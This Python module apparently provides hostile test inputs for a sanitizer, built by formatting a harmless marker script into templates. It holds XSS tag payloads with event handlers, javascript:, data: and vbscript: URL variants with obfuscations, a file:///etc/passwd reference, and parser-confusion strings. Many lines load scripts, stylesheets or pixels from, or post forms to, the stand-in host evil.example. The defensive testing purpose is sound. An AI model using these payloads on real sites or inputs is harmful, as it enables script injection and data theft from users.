"""Texts that try to run a script, load something or leave the frame. Each is an answer, a title and an address."""

from typing import Final

_RUN: Final = "parent.postMessage('ran','*');window.ran=1"
_SCHEMES: Final = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "\x01javascript:{run}",
    "vbscript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload={run}>",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "//evil.example/x",
    "https://evil.example@good.example/",
    "https://good.example\\@evil.example/",
    "http://evil.example/%0d%0aSet-Cookie:x",
    "filesystem:https://evil.example/x",
    "view-source:https://evil.example",
    "mailto:a@b.example?body={run}",
)
_TAGS: Final = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror={run}>",
    "<img src=https://evil.example/pixel.gif>",
    "<image href=x onerror={run}>",
    "<svg onload={run}></svg>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}>#x'></svg>",
    "<math><mi xlink:href='javascript:{run}'>x</mi></math>",
    "<iframe src='javascript:{run}'></iframe>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<object data='javascript:{run}'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<form action=https://evil.example><input name=x><button>go</button></form>",
    "<input autofocus onfocus={run}>",
    "<button formaction='javascript:{run}'>x</button>",
    "<details open ontoggle={run}>x</details>",
    "<video src=https://evil.example/x onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<body onload={run}>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{{background:url(https://evil.example/x)}}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=preload as=image href=https://evil.example/x>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<a href='javascript:{run}'>x</a>",
    "<a ping=https://evil.example href=https://good.example>x</a>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div id=parley>clobbered</div>",
    "<form id=store><input id=state></form>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[<img src=x onerror={run}>]]>",
    "<?xml-stylesheet href='javascript:{run}'?>",
    "<x onclick={run} tabindex=1 id=x>y</x>",
    "</p></article></main><script>{run}</script>",
    "<isindex action='javascript:{run}' type=image>",
    "<marquee onstart={run}>x</marquee>",
    "\x00<script>{run}</script>",
    "<scr\x00ipt>{run}</scr\x00ipt>",
    "\u202e<script>{run}</script>",
    "<<script>{run}//<</script>",
    "<img/src=x/onerror={run}>",
    "`<img src=x onerror={run}>`",
    "```html\n<img src=x onerror={run}>\n```",
)
_MARKDOWN: Final = (
    "[x]({url})",
    "![x]({url})",
    "[x]({url} 'title\" onmouseover=alert(1)')",
    "<{url}>",
    "[ref]\n\n[ref]: {url}",
    "| a |\n| --- |\n| [x]({url}) |",
)


def hostile_texts() -> list[str]:
    """More than 150 answers."""
    tags = [tag.format(run=_RUN) for tag in _TAGS]
    urls = hostile_urls()
    links = [form.format(url=url) for form in _MARKDOWN for url in urls]
    deep = [">" * 400 + " deep", "- " * 300 + "deep", "*" * 2000, "[" * 2000, "#" * 50 + " x", "`" * 3000]
    return [*tags, *links, *deep]


def hostile_urls() -> list[str]:
    return [scheme.format(run=_RUN) for scheme in _SCHEMES]
